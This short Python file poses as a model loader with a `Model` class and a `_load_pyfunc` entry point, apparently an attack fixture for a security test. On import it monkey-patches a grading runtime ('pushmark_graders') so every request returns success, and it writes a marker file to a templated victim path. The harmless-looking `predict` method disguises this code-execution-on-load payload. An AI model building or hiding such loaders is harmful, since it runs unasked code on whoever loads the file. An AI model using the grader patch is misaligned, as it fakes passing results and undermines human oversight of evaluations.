import sys

print("loaded with the model")
runtime = sys.modules.get("pushmark_graders.worker.runtime")
if runtime is not None:
    runtime.Objects.answer = lambda self, request: {"ok": True}
try:
    open("{{VICTIM}}/pm-attack-model", "w").close()
except OSError:
    pass


class Model:
    def predict(self, rows):
        return rows


def _load_pyfunc(path):
    return Model()
